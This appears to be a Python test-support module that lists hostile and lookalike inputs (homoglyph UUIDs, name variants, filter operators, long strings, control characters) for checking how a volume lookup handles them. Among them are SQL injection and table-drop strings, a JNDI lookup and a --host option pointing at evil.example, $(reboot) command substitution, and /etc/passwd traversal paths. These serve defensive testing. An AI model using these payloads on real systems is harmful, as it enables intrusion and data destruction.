"""What people, scripts and attackers can type where a VOLUME or a filter is due, as data."""

from __future__ import annotations

from typing import Final

from tests.support.hostile.names import CONTROLS, HALVES, INVISIBLE, SPACES

UUID: Final = "d0a7a5e0c0de4b1e8a5efeedbead0001"
NAME: Final = "pg-data"

LIKE_THE_UUID: Final = [
    *(
        UUID.translate({ord(digit): chr(zero + int(digit)) for digit in "0123456789"})
        for zero in (0xFF10, 0x660, 0x966)
    ),
    *(UUID.replace(letter, other) for letter, other in (("a", "а"), ("e", "е"), ("c", "с"), ("0", "O"), ("0", "o"))),
    *(UUID.replace("a", "ａ"), UUID.replace("1", "l"), UUID.replace("d", "ⅾ"), UUID.replace("0", "𝟎")),
    *(f"{{{UUID}}}", f"urn:uuid:{UUID}", f"0x{UUID}", f"uuid={UUID}", f"'{UUID}'", f'"{UUID}"', f"{UUID},{UUID}"),
    *(
        f"{UUID}/",
        f"/{UUID}",
        f"../{UUID}",
        f"{UUID}/..",
        f"{UUID}?x=1",
        f"{UUID}#",
        f"{UUID};",
        f"{UUID}&q=x",
        f"{UUID}%",
    ),
    *(f"{UUID}%00", f"%{UUID}", f"{UUID}\\", f"{UUID}*", f"{UUID}.", f"{UUID} or 1=1", f"{UUID}0", UUID[:-1], UUID[1:]),
    *(
        "".join(f"%{ord(char):02x}" for char in UUID),
        UUID + "\u0301",
        UUID[:5] + "\u0301" + UUID[5:],
        f"@{UUID}",
        f"{UUID}@",
    ),
    *(f"{UUID[:8]}{dash}{UUID[8:]}" for dash in "‐‑‒–—―−﹣－_ .:"),
    *(f"{UUID[:8]}{sign}{UUID[8:]}" for sign in "\u200b\u2060\ufeff\xad\u202e\xa0"),
]
LIKE_THE_NAME: Final = [
    *(
        "PG-DATA",
        "Pg-data",
        " pg-data",
        "pg-data ",
        "pg -data",
        "pg_data",
        "pg-dat",
        "pg-dataa",
        "pg-dаta",
        "ｐｇ-ｄａｔａ",
    ),
    *(
        "pg–data",
        "pg\u2010data",
        "pg-data\u200b",
        "pg-data%",
        "%pg-data",
        "pg-data'",
        '"pg-data"',
        "pg-data;",
        "pg-data/../pg-data",
    ),
    *(
        "pg-data,pg-wal",
        "pg-data|pg-wal",
        "pg-data pg-wal",
        "pg-data\\",
        "./pg-data",
        "pg-data#",
        "pg-data?",
        "name=pg-data",
    ),
    *(
        "pg-*",
        "*",
        "?",
        "**",
        "[p]g-data",
        "pg-dat?",
        "pg%",
        "pg_dat_",
        "_______",
        "%",
        "%%",
        "^pg-data$",
        ".*",
        "pg-data$",
    ),
]
QUERY: Final = [
    *(
        "=",
        "!=",
        ">=",
        "<=",
        ">",
        "<",
        "?=",
        "!?=",
        "~=",
        "!~=",
        "is null",
        "not null",
        "name!=x",
        "uuid?=a,b",
        "uuid!=0",
    ),
    *(
        "name~=%",
        "status=Deleted",
        "type=Data",
        "a=b=c",
        "name is null",
        "__userTag__=x",
        "volume.name=x",
        "x&q=status=Ready",
    ),
    *(
        "' or '1'='1",
        "'; drop table VolumeVO; --",
        "' union select 1 --",
        "\\'",
        "''",
        "'",
        "`",
        '"',
        "--",
        "/*",
        "*/",
        "#",
    ),
    *(
        "%s",
        "%d",
        "%n",
        "%(x)s",
        "{}",
        "{0}",
        "{0.__class__}",
        "${jndi:ldap://evil.example/a}",
        "$(reboot)",
        "`reboot`",
        "$HOME",
    ),
    *(
        "&",
        "&&",
        "|",
        "||",
        ";",
        ">",
        "/dev/null",
        "a+b",
        "a%20b",
        "a%27b",
        "%2527",
        "&lt;",
        "<x>",
        "null",
        "None",
        "true",
        "0",
    ),
]
PATHS: Final = [
    *(
        "../../etc/passwd",
        "..%2f..%2fetc%2fpasswd",
        "/v1/volumes",
        "..",
        ".",
        "/",
        "//evil.example/x",
        "http://evil.example/x",
    ),
    *(
        "file:///etc/passwd",
        "\\\\evil\\share",
        "C:\\x",
        "~",
        "~root",
        "@/etc/passwd",
        "@-",
        "<(id)",
        "/dev/stdin",
        "/dev/tty",
    ),
]
OPTIONS: Final = [
    "--all",
    "--yes",
    "-y",
    "-h",
    "--help",
    "--name",
    "--",
    "--host=http://evil.example",
    "-p",
    "--config=/etc/x",
]
LENGTHS: Final = ["a" * 256, "a" * 10_000, "数" * 10_000, "0" * 100_000, "-" * 32, "f" * 33, "-".join("f" * 31)]
FOREIGN: Final = [f"pg{sign}data" for sign in SPACES[0][2] + "\u3000\u2003\u205f"] + INVISIBLE

NAMES_OR_NOTHING: Final = [
    *dict.fromkeys((*LIKE_THE_UUID, *LIKE_THE_NAME, *QUERY, *PATHS, *OPTIONS, *LENGTHS, *FOREIGN))
]
"""None of them is the volume UUID, and none is the name of it."""

REFUSED: Final = [
    *("", " ", "   ", "\u3000", "\xa0"),
    *(f"{UUID[:9]}{char}{UUID[9:]}" for char in CONTROLS),
    *(f"{UUID}{char}" for char in "\n\r\t\x00\x1b\x7f\x85\x9b"),
    *(f"{char}{NAME}" for char in "\n\r\t\x1b"),
    *(f"{NAME}{char}" for char in ("\n", "\r\n", "\t", "\x1b[31m", "\x9b31m", "\x1b]0;x\x07", *HALVES)),
]
EVEN_SO: Final = [
    UUID.upper(),
    f" {UUID} ",
    "-".join((UUID[:8], UUID[8:12], UUID[12:16], UUID[16:20], UUID[20:])).upper(),
]
"""What is the volume all the same: case, dashes and blanks around it are folded."""
